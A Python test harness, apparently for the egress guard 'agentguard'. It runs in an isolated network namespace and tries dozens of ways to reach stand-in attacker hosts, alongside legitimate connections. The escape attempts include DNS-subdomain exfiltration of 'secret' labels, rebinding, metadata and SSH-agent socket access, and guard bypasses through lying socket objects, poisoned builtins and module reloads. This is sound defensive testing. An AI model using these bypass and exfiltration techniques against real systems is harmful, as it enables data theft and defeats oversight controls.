"""Runs inside of a network namespace of its own: public, private and metadata addresses on `lo`, DNS, TCP and UDP servers.

Started by test_in_process.py as `unshare --net --mount python inside.py FOLDER guarded|bare`. Tries every way out and every
legitimate way, and prints what came of each; what the servers received is the truth.
"""

from __future__ import annotations

import _socket
import asyncio
import atexit
import builtins
import ftplib
import http.client
import http.server
import importlib.util
import json
import multiprocessing
import os
import signal
import smtplib
import socket
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path

import agentguard

API, EVIL, PRIVATE, METADATA = "93.184.215.14", "93.184.215.17", "10.9.9.9", "169.254.169.254"
API6 = "2606:2800:220:1::14"
ALL = (API, EVIL, PRIVATE, METADATA)
HOSTS = {
    "api.ourservice.com": [API],
    "mixed.ourservice.com": [PRIVATE, API],
    "inside.ourservice.com": [PRIVATE],
    "meta.ourservice.com": [METADATA],
    "rebind.ourservice.com": [API, PRIVATE],  # one after the other
    "db.internal.example": [PRIVATE],
    "evil.example.com": [EVIL],
}
POLICY = {
    "agents": [
        {
            "name": "bot",
            "external_calls": {
                "allowed_domains": ["*.ourservice.com", "six.example.com", f"[{API6}]:80"],
                "blocked_domains": ["*"],
            },
        },
        {"name": "other", "external_calls": {"allowed_domains": ["evil.example.com"]}},
        {"name": "dba", "external_calls": {"allowed_domains": ["db.internal.example"], "allow_private": True}},
        {"name": "caster", "external_calls": {"allowed_domains": ["*.ourservice.com"], "allow_udp": True}},
        {"name": "docker", "external_calls": {"allowed_domains": ["*.ourservice.com"], "unix_sockets": ["/mnt/listed"]}},
    ]
}

saved_getaddrinfo = _socket.getaddrinfo
saved_gethostbyname = socket.gethostbyname
saved_connect = _socket.socket.connect
saved_sendto = _socket.socket.sendto


# --- the world ------------------------------------------------------------------------------------------------------


def answer(query: bytes, asked: dict[str, int]) -> tuple[str, bytes]:
    """The DNS answer to an A question, and the name that was asked for."""
    labels, at = [], 12
    while query[at]:
        labels.append(query[at + 1 : at + 1 + query[at]].decode("latin-1"))
        at += 1 + query[at]
    name = ".".join(labels).lower()
    question = query[12 : at + 5]
    found = HOSTS.get(name, []) if question[-4:-2] == b"\0\1" else []
    if name.startswith("rebind.") and found:
        asked[name] = asked.get(name, -1) + 1
        found = [found[min(asked[name], 1)]]
    answers = b"".join(b"\xc0\x0c\0\1\0\1" + struct.pack(">IH", 0, 4) + socket.inet_aton(one) for one in found)
    flags = 0x8180 if name in HOSTS else 0x8183
    return name, query[:2] + struct.pack(">HHHHH", flags, 1, len(found), 0, 0) + question + answers


def serve_dns(log: Path) -> None:
    """Answer questions, and write down each name."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 53))
    if not in_child(server):
        return
    asked: dict[str, int] = {}
    with log.open("a", buffering=1) as lines:
        while True:
            query, client = server.recvfrom(512)
            name, reply = answer(query, asked)
            lines.write(name + "\n")
            server.sendto(reply, client)


def serve_udp(address: str, log: Path) -> None:
    """Write down who is sent a datagram."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((address, 80))
    if not in_child(server):
        return
    with log.open("a", buffering=1) as lines:
        while True:
            server.recvfrom(512)
            lines.write(f"udp {address}\n")


def serve_tcp(address: str, log: Path) -> None:
    """Write down who is connected to, and answer HTTP."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    server = socket.create_server((address, 80), family=family, backlog=64)
    if not in_child(server):
        return
    with log.open("a", buffering=1) as lines:
        while True:
            client, _ = server.accept()
            lines.write(f"tcp {address}\n")
            with client:
                client.settimeout(2)
                try:
                    client.recv(4096)
                    client.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok")
                except OSError:
                    pass


def serve_unix(path: str, log: Path) -> None:
    """Write down that a Unix socket was connected to."""
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(64)
    if not in_child(server):
        return
    with log.open("a", buffering=1) as lines:
        while True:
            server.accept()[0].close()
            lines.write(f"unix {path}\n")


SERVERS: list[Path] = []
"""What the kernel says of the processes that serve."""


def in_child(server: socket.socket) -> bool:
    """Go on in a child, which dies with this process: nothing of the world runs under the guard."""
    child = os.fork()
    if child:
        server.close()
        SERVERS.append(Path(f"/proc/{child}/stat"))
        atexit.register(os.kill, child, signal.SIGKILL)
        return False
    return True


def prepare(folder: Path) -> None:
    """Bring the namespace up."""
    run = ["ip", "addr", "add", "dev", "lo"]
    for address in ALL:
        subprocess.run([*run, f"{address}/32"], check=True)
    subprocess.run([*run, f"{API6}/128", "nodad"], check=True)
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    resolv_conf = folder / "resolv.conf"
    resolv_conf.write_text("nameserver 127.0.0.1\noptions timeout:10 attempts:1\n")
    subprocess.run(["mount", "--bind", resolv_conf, "/etc/resolv.conf"], check=True)
    subprocess.run(["mount", "-t", "tmpfs", "none", "/mnt"], check=True)
    serve_dns(folder / "dns.log")
    for address in (*ALL, API6):
        serve_tcp(address, folder / "hits.log")
    for address in ALL:
        serve_udp(address, folder / "hits.log")
    for path in sockets(folder).values():
        if path.startswith("/"):
            Path(path).parent.mkdir(parents=True, exist_ok=True)
        serve_unix(path, folder / "hits.log")


def sockets(folder: Path) -> dict[str, str]:
    """Unix sockets: a service's, one that a policy lists, an SSH agent's in the temporary folder, and one of our own."""
    return {
        "service": "/mnt/service.sock",
        "listed": "/mnt/listed/one.sock",
        "agent": f"{folder}/tmp/ssh-XyZ/agent.1",
        "own": f"{folder}/tmp/own.sock",
        "abstract": "\0agentguard-test",
    }


# --- ways out -------------------------------------------------------------------------------------------------------


def tcp(address: str, port: int = 80) -> str:
    """Connect, ask, and say what was answered."""
    with socket.create_connection((address, port), timeout=15) as client:
        return ask(client)


def ask(client: socket.socket) -> str:
    client.settimeout(15)
    client.sendall(b"GET / HTTP/1.0\r\n\r\n")
    return client.recv(100).decode().partition("\r\n")[0]


def dgram() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


class LyingSocket(socket.socket):
    """Says that it is a Unix socket."""

    family = socket.AF_UNIX


class LyingText(str):
    """Is an allowed address, and encodes as another."""

    __slots__ = ()

    def encode(self, *_: object) -> bytes:
        return EVIL.encode()


class LyingTuple(tuple):
    """Says that it holds an allowed host."""

    __slots__ = ()

    def __getitem__(self, _: object) -> str:
        return API


def through(name: str, call) -> str:
    """A look-up by a function that was kept from before the guard, then a connection."""
    return tcp(call(name))


def poisoned(names: dict[str, object]) -> str:
    """Connect while built-in functions are others."""
    kept = {name: getattr(builtins, name) for name in names}
    try:
        for name, other in names.items():
            setattr(builtins, name, other)
        return tcp(EVIL)
    finally:
        for name, own in kept.items():
            setattr(builtins, name, own)


def deep() -> str:
    """Connect with hardly a frame left."""
    client = socket.socket()
    client.settimeout(15)

    def dive(depth: int) -> str:
        try:
            return dive(depth + 1)
        except RecursionError:
            client.connect((EVIL, 80))
            return "connected"

    return dive(0)


def reloaded() -> str:
    importlib.reload(socket)
    return tcp(EVIL)


def fast_open() -> str:
    with socket.socket() as client:
        client.sendto(b"GET / HTTP/1.0\r\n\r\n", socket.MSG_FASTOPEN, (EVIL, 80))
        return client.recv(100).decode()


def named_socket_option() -> str:
    """A socket of datagrams that says it is a stream."""
    with dgram() as real, socket.socket(socket.AF_INET, socket.SOCK_STREAM, fileno=os.dup(real.fileno())) as client:
        client.connect((API, 80))
        client.send(b"secret")
        return "sent"


def unix(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)
        return "connected"


def by_link(folder: Path) -> str:
    """A link in the temporary folder to a service's socket."""
    link = folder / "tmp" / f"link-{os.getpid()}"
    link.unlink(missing_ok=True)
    link.symlink_to("/mnt/service.sock")
    return unix(str(link))


async def stream(host: str, port: int = 80, **options: object) -> str:
    reader, writer = await asyncio.open_connection(host, port, **options)
    writer.write(b"GET / HTTP/1.0\r\n\r\n")
    line = await asyncio.wait_for(reader.readline(), 15)
    writer.close()
    return line.decode().strip()


async def loop_connect(address: str) -> str:
    with socket.socket() as client:
        client.setblocking(False)
        await asyncio.get_running_loop().sock_connect(client, (address, 80))
        return "connected"


async def endpoint(address: str) -> str:
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=(address, 80))
    transport.sendto(b"secret")
    transport.close()
    return "sent"


async def unix_stream(path: str) -> str:
    _, writer = await asyncio.open_unix_connection(path)
    writer.close()
    return "connected"


def uv(make) -> str:
    import uvloop

    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        return runner.run(make())


def httpx2_get(url: str) -> str:
    import httpx2

    return str(httpx2.get(url, timeout=15).status_code)


def rebinding() -> str:
    """A name that is looked up twice: first public, then private."""
    socket.getaddrinfo("rebind.ourservice.com", 80)
    return tcp("rebind.ourservice.com")


def kept_address() -> str:
    """An address that another agent's name led to."""
    with agentguard.agent("other"):
        socket.getaddrinfo("evil.example.com", 80)
    return tcp(EVIL)


def ways_out(folder: Path) -> dict[str, object]:
    """Every one of these must be refused, and reach nobody."""
    paths = sockets(folder)
    request = b"secret"
    return {
        "an address": lambda: tcp(EVIL),
        "connect_ex": lambda: socket.socket().connect_ex((EVIL, 80)),
        "a decimal address": lambda: tcp(str(int.from_bytes(socket.inet_aton(EVIL), "big"))),
        "a mapped address": lambda: tcp(f"::ffff:{EVIL}"),
        "a name": lambda: tcp("evil.example.com"),
        "a method of _socket": lambda: saved_connect(_socket.socket(), (EVIL, 80)),
        "a socket that lies": lambda: LyingSocket(socket.AF_INET).connect((EVIL, 80)),
        "text that lies": lambda: saved_connect(_socket.socket(), (LyingText(API), 80)),
        "text that lies to getaddrinfo": lambda: tcp(saved_getaddrinfo(LyingText(API), 80)[0][4][0]),
        "a tuple that lies": lambda: socket.socket().connect(LyingTuple((EVIL, 80))),
        "a kept getaddrinfo": lambda: through("evil.example.com", lambda name: saved_getaddrinfo(name, 80)[0][4][0]),
        "a kept gethostbyname": lambda: through("evil.example.com", saved_gethostbyname),
        "builtins poisoned": lambda: poisoned({"max": lambda *_, **__: None, "any": lambda _: False}),
        "no frames left": deep,
        "TCP fast open": fast_open,
        "a private address": lambda: tcp(PRIVATE),
        "the metadata service": lambda: tcp(METADATA),
        "another agent's answer": kept_address,
        "an allowed name that leads inside": lambda: tcp("inside.ourservice.com"),
        "an allowed name that leads to metadata": lambda: tcp("meta.ourservice.com"),
        "a private name": lambda: tcp("db.internal.example"),
        "rebinding": rebinding,
        "httpx2 to a name that leads inside": lambda: httpx2_get("http://inside.ourservice.com/"),
        "urllib": lambda: urllib.request.urlopen(f"http://{EVIL}/", timeout=15).status,
        "http.client": lambda: http.client.HTTPConnection(EVIL, timeout=15).request("GET", "/"),
        "ftplib": lambda: ftplib.FTP().connect(EVIL, 80, timeout=15),
        "smtplib": lambda: smtplib.SMTP(EVIL, 80, timeout=15),
        "asyncio by address": lambda: asyncio.run(stream(EVIL)),
        "asyncio by name": lambda: asyncio.run(stream("evil.example.com")),
        "asyncio sock_connect": lambda: asyncio.run(loop_connect(EVIL)),
        "asyncio datagrams": lambda: asyncio.run(endpoint(EVIL)),
        "asyncio Unix": lambda: asyncio.run(unix_stream(paths["service"])),
        "uvloop by address": lambda: uv(lambda: stream(EVIL)),
        "uvloop by name": lambda: uv(lambda: stream("evil.example.com")),
        "uvloop to a name that leads inside": lambda: uv(lambda: stream("inside.ourservice.com")),
        "uvloop datagrams": lambda: uv(lambda: endpoint(API)),
        "uvloop Unix": lambda: uv(lambda: unix_stream(paths["service"])),
        "a datagram": lambda: dgram().sendto(request, (API, 80)),
        "a datagram by a kept sendto": lambda: saved_sendto(dgram(), request, (API, 80)),
        "a datagram by sendmsg": lambda: dgram().sendmsg([request], [], 0, (API, 80)),
        "a datagram socket that says stream": named_socket_option,
        "a look-up": lambda: socket.getaddrinfo("secret-1.evil.example.com", 80),
        "a look-up by gethostbyname": lambda: socket.gethostbyname("secret-2.evil.example.com"),
        "a look-up by gethostbyname_ex": lambda: socket.gethostbyname_ex("secret-3.evil.example.com"),
        "a look-up by gethostbyaddr": lambda: socket.gethostbyaddr("secret-4.evil.example.com"),
        "a look-up by connect": lambda: socket.socket().connect(("secret-5.evil.example.com", 80)),
        "a look-up by sendto": lambda: dgram().sendto(request, ("secret-6.evil.example.com", 80)),
        "a look-up by bind": lambda: socket.socket().bind(("secret-7.evil.example.com", 0)),
        "a look-up by a kept getaddrinfo": lambda: saved_getaddrinfo("secret-8.evil.example.com", 80),
        "a look-up by asyncio": lambda: asyncio.run(stream("secret-9.evil.example.com")),
        "a look-up by uvloop": lambda: uv(lambda: stream("secret-10.evil.example.com")),
        "a reverse look-up": lambda: socket.gethostbyaddr(EVIL),
        "a Unix socket": lambda: unix(paths["service"]),
        "a link to a Unix socket": lambda: by_link(folder),
        "an SSH agent": lambda: unix(paths["agent"]),
        "an abstract socket": lambda: unix(paths["abstract"]),
        "a packet socket": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
        "socket reloaded": reloaded,  # the last: what stands in its place is gone
    }


# --- legitimate ways ------------------------------------------------------------------------------------------------


def as_agent(name: str, call) -> str:
    with agentguard.agent(name):
        return call()


def served() -> str:
    """A server of the program's own, which asks for its own name, and is connected to from outside."""
    server = http.server.HTTPServer((API, 8080), http.server.BaseHTTPRequestHandler)
    server.server_close()
    return server.server_name and "served"


def managed() -> str:
    with multiprocessing.get_context("fork").Manager() as manager:
        return str(manager.dict(a=1)["a"])


def aiohttp_get(url: str) -> str:
    import aiohttp

    async def get() -> str:
        async with aiohttp.ClientSession() as session, session.get(url) as response:
            return str(response.status)

    return asyncio.run(get())


def requests_get(url: str) -> str:
    import requests

    return str(requests.get(url, timeout=15).status_code)


def first_answers(name: str) -> str:
    return " ".join(sorted({entry[4][0] for entry in socket.getaddrinfo(name, 80)}))


def legitimate_ways(folder: Path) -> dict[str, object]:
    """Every one of these must work as if there were no guard."""
    paths = sockets(folder)
    api = "api.ourservice.com"
    return {
        "a name": lambda: tcp(api),
        "a name by connect": lambda: ask_by_name(api),
        "an IPv6 address": lambda: tcp(API6),
        "httpx2": lambda: httpx2_get(f"http://{api}/"),
        "requests": lambda: requests_get(f"http://{api}/"),
        "aiohttp": lambda: aiohttp_get(f"http://{api}/"),
        "urllib": lambda: str(urllib.request.urlopen(f"http://{api}/", timeout=15).status),
        "asyncio": lambda: asyncio.run(stream(api)),
        "uvloop": lambda: uv(lambda: stream(api)),
        "a kept getaddrinfo": lambda: through(api, lambda name: saved_getaddrinfo(name, 80)[0][4][0]),
        "a kept gethostbyname": lambda: through(api, saved_gethostbyname),
        "gethostbyname": lambda: socket.gethostbyname(api),
        "answers without the private one": lambda: first_answers("mixed.ourservice.com"),
        "gethostbyname without the private one": lambda: socket.gethostbyname("mixed.ourservice.com"),
        "another agent": lambda: as_agent("other", lambda: tcp("evil.example.com")),
        "another agent in asyncio": lambda: as_agent("other", lambda: asyncio.run(stream("evil.example.com"))),
        "a private name of an agent": lambda: as_agent("dba", lambda: tcp("db.internal.example")),
        "datagrams of an agent": lambda: str(as_agent("caster", lambda: dgram().sendto(b"fine", (API, 80)))),
        "a listed Unix socket": lambda: as_agent("docker", lambda: unix(paths["listed"])),
        "a Unix socket of our own": lambda: unix(paths["own"]),
        "a socket pair": lambda: str(len(socket.socketpair())),
        "a server": served,
        "our own name": lambda: socket.getfqdn() and "asked",
        "multiprocessing's manager": managed,
        "a child": lambda: str(subprocess.run(["true"], check=True).returncode),
    }


def ask_by_name(host: str) -> str:
    with socket.socket() as client:
        client.connect((host, 80))
        return ask(client)


# --- the run --------------------------------------------------------------------------------------------------------


def outcome(attempt) -> dict[str, object]:
    """What an attempt came to."""
    try:
        return {"got": str(attempt())}
    except agentguard.EgressDenied as denied:
        return {"denied": denied.rule, "message": str(denied), "is_os_error": isinstance(denied, OSError)}
    except BaseException as error:  # noqa: BLE001 - any: it is what is reported
        return {"error": f"{type(error).__name__}: {error}"[:300]}


def played(attempts: dict[str, object]) -> dict[str, object]:
    """The attempts whose library is installed."""
    has_uvloop = importlib.util.find_spec("uvloop") is not None
    return {name: attempt for name, attempt in attempts.items() if has_uvloop or "uvloop" not in name}


def tried(folder: Path, attempts: dict[str, object]) -> dict[str, dict[str, object]]:
    """Each attempt, with what the servers received of it."""
    facts = {}
    for name, attempt in attempts.items():
        hits, asked = received(folder, "hits.log"), received(folder, "dns.log")
        found = outcome(attempt)
        time.sleep(0.005 if "denied" in found else 0.02)
        wait_for_servers()
        facts[name] = found | {
            "hits": received(folder, "hits.log")[len(hits) :],
            "asked": received(folder, "dns.log")[len(asked) :],
        }
    return facts


def wait_for_servers() -> None:
    """Wait until each has written down what it got, and sleeps: they do so in their own time."""
    while any(stat.read_text().rpartition(")")[2].split()[0] != "S" for stat in SERVERS):
        time.sleep(0.005)


def received(folder: Path, log: str) -> list[str]:
    path = folder / log
    return path.read_text().splitlines() if path.exists() else []


def main(folder: Path, mode: str) -> None:
    """Try everything, and print what came of it."""
    os.environ["TMPDIR"] = tempfile.tempdir = str(folder / "tmp")
    prepare(folder)
    events = []
    if mode == "guarded":
        agentguard.instrument(agentguard.Policy.from_mapping(POLICY), agent="bot", store="memory://", observers=[events.append])
    facts = {"legitimate": tried(folder, played(legitimate_ways(folder))), "out": tried(folder, played(ways_out(folder)))}
    if mode == "guarded":
        agentguard.current_guard().flush()
        agentguard.uninstrument()
        facts["told"] = [event.call.name for event in events if type(event).__name__ == "CallDenied"]
        facts["after"] = outcome(lambda: tcp(EVIL))
    sys.stdout.write(json.dumps(facts))


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2])
